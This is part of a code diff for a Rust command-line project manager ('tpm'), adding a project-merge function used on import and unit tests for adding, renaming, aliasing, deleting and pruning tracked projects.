+        .collect::<Vec<_>>();
+    let count = incoming.len();
+    let existing = get_projects()?;
+    confirm_new_on_open_commands(&mut incoming, &existing);
+    save_projects(&merge_projects(&existing, &incoming))?;
+
+    Ok(format!(
+        "Imported {} projects from {}",
+        count,
+        file.display()
+    ))
+}
+
+/// Merges `incoming` projects into `existing` ones.
+///
+/// Projects are matched by name. When both lists have a project with the
+/// same name, the one opened most recently is kept.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::{merge_projects, Project};
+///
+/// let existing: Vec<Project> = serde_json::from_str(
+///     r#"[
+///         {"name": "foo", "path": "/old/foo", "last_opened": {"secs": 1, "nanos": 0}},
+///         {"name": "bar", "path": "/code/bar", "last_opened": {"secs": 5, "nanos": 0}}
+///     ]"#,
+/// )
+/// .unwrap();
+/// let incoming: Vec<Project> = serde_json::from_str(
+///     r#"[
+///         {"name": "foo", "path": "/new/foo", "last_opened": {"secs": 2, "nanos": 0}},
+///         {"name": "bar", "path": "/old/bar", "last_opened": {"secs": 3, "nanos": 0}},
+///         {"name": "baz", "path": "/code/baz", "last_opened": {"secs": 4, "nanos": 0}}
+///     ]"#,
+/// )
+/// .unwrap();
+///
+/// let merged = merge_projects(&existing, &incoming)
+///     .iter()
+///     .map(|p| p.to_string())
+///     .collect::<Vec<_>>();
+/// assert_eq!(merged, ["foo (/new/foo)", "bar (/code/bar)", "baz (/code/baz)"]);
+/// ```
+pub fn merge_projects(existing: &[Project], incoming: &[Project]) -> Vec<Project> {
+    let mut merged = existing.to_vec();
+    for project in incoming {
+        match merged.iter_mut().find(|p| p.name == project.name) {
+            Some(current) if project.last_opened > current.last_opened => {
+                *current = project.clone();
+            }
+            Some(_) => {}
+            None => merged.push(project.clone()),
+        }
+    }
+
+    merged
+}
+
+fn filter_valid_name(c: &char) -> bool {
     c.is_alphanumeric() || c == &'-' || c == &'_'
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn completion_scripts_offer_every_subcommand() {
+        for shell in VALID_SHELLS {
+            let script = build_completion_script(shell, Path::new("/")).unwrap();
+            let words = script
+                .split(|c: char| !c.is_ascii_alphanumeric() && c != '-')
+                .collect::<HashSet<_>>();
+            let app = app();
+            let workspace = app.find_subcommand("workspace").unwrap();
+            for subcommand in app.get_subcommands().chain(workspace.get_subcommands()) {
+                let name = subcommand.get_name();
+                assert!(
+                    words.contains(name),
+                    "{} completions are missing {}",
+                    shell,
+                    name
+                );
+            }
+        }
+    }
+
+    /// Serializes the tests that use the projects file, since the config
+    /// directory and the loaded projects are shared by the whole process.
+    static CONFIG_DIR_LOCK: Mutex<()> = Mutex::new(());
+
+    /// An empty config directory for one test, as if `--config-dir` and
+    /// `--yes` were passed, which is removed when it's dropped.
+    struct TestConfigDir {
+        dir: PathBuf,
+        _lock: MutexGuard<'static, ()>,
+    }
+
+    impl TestConfigDir {
+        fn new() -> Self {
+            let lock = CONFIG_DIR_LOCK
+                .lock()
+                .unwrap_or_else(|err| err.into_inner());
+            let dir = env::temp_dir().join(format!("tpm-test-{}", std::process::id()));
+            let _ = fs::remove_dir_all(&dir);
+            fs::create_dir_all(&dir).unwrap();
+            let dir = dir.canonicalize().unwrap();
+            *CONFIG_DIR_OVERRIDE.lock().unwrap() = Some(dir.join("config"));
+            *PROJECTS.lock().unwrap() = None;
+            // also keeps prompts from waiting on a terminal
+            ASSUME_YES.store(true, Ordering::Relaxed);
+            TestConfigDir { dir, _lock: lock }
+        }
+
+        /// Creates the directory `name` inside the test directory.
+        fn project_dir(&self, name: &str) -> String {
+            let dir = self.dir.join(name);
+            fs::create_dir_all(&dir).unwrap();
+            dir.to_str().unwrap().to_string()
+        }
+    }
+
+    impl Drop for TestConfigDir {
+        fn drop(&mut self) {
+            ASSUME_YES.store(false, Ordering::Relaxed);
+            *PROJECTS.lock().unwrap_or_else(|err| err.into_inner()) = None;
+            *CONFIG_DIR_OVERRIDE
+                .lock()
+                .unwrap_or_else(|err| err.into_inner()) = None;
+            let _ = fs::remove_dir_all(&self.dir);
+        }
+    }
+
+    fn project_names() -> Vec<String> {
+        let mut names =
+            with_projects(|projects| projects.iter().map(|p| p.name.clone()).collect::<Vec<_>>())
+                .unwrap();
+        names.sort();
+        names
+    }
+
+    #[test]
+    fn adding_a_tracked_path_under_another_name_is_rejected() {
+        let config = TestConfigDir::new();
+        let api = config.project_dir("api");
+        add_project("api", &api, &[], "").unwrap();
+
+        let err = add_project("api-again", &format!("{}/", api), &[], "").unwrap_err();
+        assert_eq!(
+            err.to_string(),
+            format!("Project api already points to {}", api)
+        );
+        // an existing name can't be overwritten to point at it either
+        add_project("web", &config.project_dir("web"), &[], "").unwrap();
+        assert!(add_project("web", &api, &[], "").is_err());
+        assert_eq!(project_names(), ["api", "web"]);
+
+        let projects = get_projects().unwrap();
+        assert_eq!(find_project_by_path(&projects, &api).unwrap().name, "api");
+        assert!(find_project_by_path(&projects, "/no/such/project").is_none());
+    }
+
+    #[test]
+    fn names_are_not_compared_with_paths() {
+        let _config = TestConfigDir::new();
+        // a project at ./api, relative to the current directory
+        let path = env::current_dir().unwrap().join("api");
+        let project = Project::new("elsewhere", path.to_str().unwrap()).unwrap();
+        set_projects(&[project]).unwrap();
+
+        assert!(!project_already_exists("api"));
+        assert!(project_already_exists("elsewhere"));
+    }
+
+    #[test]
+    fn changing_a_path_to_a_tracked_path_is_rejected() {
+        let config = TestConfigDir::new();
+        let api = config.project_dir("api");
+        let web = config.project_dir("web");
+        add_project("api", &api, &[], "").unwrap();
+        add_project("web", &web, &[], "").unwrap();
+
+        assert!(update_project("web", None, Some(&api)).is_err());
+        assert!(update_project("web", Some("site"), Some(&web)).is_ok());
+        let projects = get_projects().unwrap();
+        assert_eq!(find_project_by_path(&projects, &web).unwrap().name, "site");
+    }
+
+    #[test]
+    fn root_and_home_are_not_deleted() {
+        let config = TestConfigDir::new();
+        assert!(check_safe_to_delete(Path::new("/")).is_err());
+        assert!(check_safe_to_delete(&home_dir()).is_err());
+        assert!(check_safe_to_delete(&config.dir).is_err());
+        assert!(check_safe_to_delete(Path::new(&config.project_dir("api"))).is_ok());
+    }
+
+    #[test]
+    fn deleting_an_unknown_project_deletes_nothing() {
+        let config = TestConfigDir::new();
+        let api = config.project_dir("api");
+        add_project("api", &api, &[], "").unwrap();
+
+        let err = delete_projects(&["api", "missing"], true, false).unwrap_err();
+        assert_eq!(err.to_string(), "Project missing not found");
+        assert!(Path::new(&api).is_dir());
+        assert_eq!(project_names(), ["api"]);
+
+        delete_projects(&["api"], true, false).unwrap();
+        assert!(!Path::new(&api).exists());
+        assert!(project_names().is_empty());
+    }
+
+    #[test]
+    fn new_projects_cannot_shadow_an_alias() {
+        let config = TestConfigDir::new();
+        add_project(
+            "travvy-project-manager",
+            &config.project_dir("tpm"),
+            &[],
+            "",
+        )
+        .unwrap();
+        let mut projects = get_projects().unwrap();
+        projects[0].set_aliases(&["tpm".to_string()]);
+        save_projects(&projects).unwrap();
+
+        let err = add_project("tpm", &config.project_dir("other"), &[], "").unwrap_err();
+        assert_eq!(err.to_string(), "A project named tpm already exists");
+        assert!(new_project(
+            "tpm",
+            &config.dir.join("new").to_string_lossy(),
+            None,
+            false
+        )
+        .is_err());
+        assert!(!config.dir.join("new").exists());
+        assert!(clone_project("https://example.com/tpm.git", None).is_err());
+        assert_eq!(project_names(), ["travvy-project-manager"]);
+    }
+
+    #[test]
+    fn pruning_more_days_than_fit_is_an_error() {
+        let config = TestConfigDir::new();
+        add_project("api", &config.project_dir("api"), &[], "").unwrap();
+
+        assert!(prune_projects(u64::MAX / 1000, false).is_err());
+        assert_eq!(project_names(), ["api"]);
+    }
+}